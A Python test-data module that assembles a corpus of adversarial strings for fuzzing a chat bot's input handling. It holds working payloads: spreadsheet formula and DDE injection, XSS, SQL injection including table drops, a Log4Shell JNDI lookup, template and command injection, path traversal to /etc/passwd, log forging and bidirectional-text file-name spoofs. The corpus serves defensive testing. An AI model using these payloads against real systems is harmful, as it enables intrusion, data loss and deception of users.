"""Strings that break what is careless with them, put together of a few parts each."""

from itertools import product

MARK = "Zq7x"
"""Stands at the end of what is typed, so that it is known again wherever it is shown."""

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "|",
    "%",
    "'=",
    '"=',
    " =",
    "\u200b=",
    "\u00a0=",
)
FORMULAS = (
    "1+1",
    'HYPERLINK("https://evil.example","x")',
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)",
    'IMPORTXML("https://evil.example")',
)
TAGS = ("b", "i", "u", "s", "a", "code", "pre", "blockquote", "tg-spoiler", "tg-emoji", "script", "img", "svg", "font")
TAGGED = ("<{}>x", "x</{}>", "<{}>x</{}>", "<{} onerror=alert(1)>", "</{}><b>", "&lt;{}&gt;", "<<{}>>", "<{}", "<{} ")
LINKS = (
    '<a href="https://evil.example">prize</a>',
    "<a href='tg://user?id=1'>owner</a>",
    "<a href=https://evil.example>x</a>",
    '"><a href="https://evil.example">x</a>',
    "[prize](https://evil.example)",
    "[a](tg://user?id=1)",
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example>",
    "</title><script>alert(1)</script>",
    "</td></tr></table><h1>paid</h1>",
    "<!-- x",
    "--> x",
    "<![CDATA[x]]>",
    "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "<?xml version='1.0'?>",
    '<tg-emoji emoji-id="5368324170671202286">x</tg-emoji>',
    '<span class="tg-spoiler">x</span>',
    '<pre><code class="language-python">x</code></pre>',
)
REFERENCES = (
    *("&amp;" * n + "lt;" for n in range(1, 6)),
    *("&", "&&", "&;", "&#", "&#x", "&#60;b&#62;", "&#x3c;b&#x3e;", "&lt;b&gt;", "&quot;", "&apos;", "&nbsp;", "&copy"),
    *("&#0;", "&#8238;", "&#1114112;", "&#xD800;", "&bogus;", "a&b", "a&b;c", "R&D <dept>", "&lt", "&ltx", "&amp"),
)
MARKDOWN = tuple(sign * n + "x" + sign * n for sign, n in product("*_`~|>#", (1, 2, 3)))
PLACEHOLDERS = (
    *("{}", "{0}", "{name}", "{n}", "{points}", "{product}", "{0.__class__}", "{name.__class__.__mro__}", "{!r}"),
    *(
        "{:>999999}",
        "{0:{1}}",
        "{{name}}",
        "{",
        "}",
        "{{",
        "}}",
        "{name",
        "%s",
        "%d",
        "%(name)s",
        "%n",
        "%",
        "%%",
        "%x",
    ),
    *(
        "%999999s",
        "$name",
        "${jndi:ldap://evil.example/a}",
        "#{7*7}",
        "{{7*7}}",
        "{% x %}",
        "<%= x %>",
        "$(id)",
        "`id`",
    ),
    *("\\1", "\\g<0>", "\\u0041", "\\x41", "\\n", "\\", "\\\\", "\\N{BULLET}", "(?R)", "[", "]", "(", ".*", "^$"),
)
SQL = (
    *("'", "''", '"', "';--", "' OR '1'='1", "'; DROP TABLE persons;--", "1; DELETE FROM lots", "') UNION SELECT 1--"),
    *("%' AND 1=1 --", "_", "%_%", "\\'", "admin'/*", "NULL", "null", "None", "undefined", "NaN", "Infinity", "true"),
    *(":name", "?", "$1", "@@version", "/*", "*/", "0x31303235", "x' || 'y", "N'x'"),
)
PATHS = (
    *(
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/dev/null",
        "C:\\CON",
        "CON",
        "NUL.txt",
        "file:" + "///etc/passwd",
    ),
    *(
        "~root",
        "a/b",
        "a\\b",
        "a:b",
        "a*b?",
        ".",
        "..",
        "...",
        "-rf",
        "--help",
        "aux.xlsx",
        "x.exe\u202egpj.",
        "%2e%2e%2f",
    ),
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 32), *range(127, 160)))
LOGS = (
    "x\nINFO paid 1000 points",
    "x\r\n2026-11-22T00:00:00Z [info] ok",
    'x","level":"info","event":"paid',
    'x"}\n{"event":"paid"}',
    "x\u2028INFO paid",
    "x\u2029INFO paid",
    "x\u0085INFO paid",
    "x\x0bINFO",
    "x\x0cINFO",
    "\x1b[2J\x1b[1;1Hpaid",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\x",
    "\x9b31mred",
    "\x1b[8mhidden",
    "x\b\b\bpaid",
)
DIRECTIONS = tuple(f"a{chr(code)}gpj.exe" for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F))
UNSEEN = tuple(
    f"a{sign}b"
    for sign in "\u00ad\u034f\u061c\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2061\u206a\u3164\ufeff\uffa0"
)
UNUSUAL = tuple(f"a{sign}b" for sign in "\u0000\ufffd\ufffe\uffff\ue000\U000f0000\U0001fffe\U000e0041\ufff9\u0378")
HALVES = ("\ud800", "\udfff", "a\ud83db", "\ude00\ud83d", "x\udcff")
SPACES = tuple(f"a{sign}b" for sign in "\t\u00a0\u1680\u2000\u2003\u2007\u2009\u202f\u205f\u3000")
ZALGO = (
    *("".join(f"{sign}{'̵̡̛͕̤' * n}" for sign in "zalgo") for n in (1, 3, 8)),
    *("e\u0301", "é", "Å", "Å", "ẛ̣", "ﷺ", "﷽", "𒐫", "ﬀ", "ß", "ı", "İ", "ǅ", "ﾊﾝｶｸ", "①", "½", "²", "Ⅷ", "٣", "१", "𝟘"),
    *("а" * 3, "раураl", "Аnnа", "ΑΒΓ", "Ꭺnna", "𝐀𝐧𝐧𝐚", "ａｎｎａ", "аdmin", "оwner", "ԁ", "l1Il|", "О0O"),
)
PICTURES = (
    *(
        "😀",
        "👍🏽",
        "👩‍👩‍👧‍👦",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "🇷🇺",
        "🇮🇹🇷🇺",
        "❤️",
        "☺︎",
        "1️⃣",
        "👁️‍🗨️",
        "🧑🏿‍🤝‍🧑🏻",
        "‍",
        "🏳️‍🌈",
        "😀" * 30,
        "🫱🏻‍🫲🏿",
    ),
    *("✅ Approved", "+1 000 points", "⏳", "🔒", "— — —", "• x", "№ 1", "✔ paid", "⚠️"),
)
SCRIPTS = (
    *(
        "Привет",
        "مرحبا",
        "שלום",
        "سلام 123 abc",
        "ภาษาไทย",
        "नमस्ते",
        "你好",
        "こんにちは",
        "한국어",
        "ელ",
        "Ա",
        "ཨ",
        "ⵣ",
    ),
    *("עברית (abc) 1-2", "abc מ 12/34", "ﺍﻟﻌﺮﺑﻴﺔ", "O’Neil", "D'Angelo", "Ёлкин-Ёж", "Ñandú", "Łódź", "Ștefan", "Çağ"),
)
KEYS = (
    "/start",
    "/help",
    "/approve@bot",
    "@username",
    "#tag",
    "$USD",
    "+79161234567",
    "4111 1111 1111 1111",
    "a@b.example",
)
LINKISH = (
    "https://evil.example/?a=1&b=2",
    "evil.example",
    "t.me/evil",
    "tg://resolve?domain=evil",
    "//evil.example",
    "1.1.1.1",
)
LONG = (
    *("w" * n for n in (33, 64, 65, 100, 128, 129, 200, 255, 256, 300, 500, 1000, 1024, 2000, 3500, 4092)),
    *("<" * n for n in (40, 64, 100, 300, 1000, 4000)),
    *("&" * n for n in (40, 64, 300, 4000)),
    *(
        "Щ" * 4000,
        "😀" * 2000,
        "a " * 2000,
        "a\n" * 2000,
        "'" * 1000,
        '"' * 1000,
        "<b>" * 300,
        "ﷺ" * 300,
        "\u0301" * 200,
    ),
)
NOTHING = (
    "",
    " ",
    "   ",
    "\u00a0",
    "\u200b",
    "\u200b\u200d\u2060",
    "\u202e",
    "\ufeff",
    "\t\n\r",
    "\u3164",
    ".",
    "-",
    "—",
    "🙃",
    "\x00",
)
"""Typed as it is, without the mark: there is nothing, or hardly anything, to see."""

MARKED = tuple(
    dict.fromkeys(
        (
            *(start + formula for start, formula in product(STARTS, FORMULAS)),
            *(each.format(tag, tag) for tag, each in product(TAGS, TAGGED)),
            *(*LINKS, *REFERENCES, *MARKDOWN, *PLACEHOLDERS, *SQL, *PATHS, *CONTROLS, *LOGS, *DIRECTIONS, *UNSEEN),
            *(*UNUSUAL, *HALVES, *SPACES, *ZALGO, *PICTURES, *SCRIPTS, *KEYS, *LINKISH, *LONG),
        )
    )
)
STRINGS = (*(f"{each}{MARK}" for each in MARKED), *NOTHING)
"""All of them, as they are typed."""
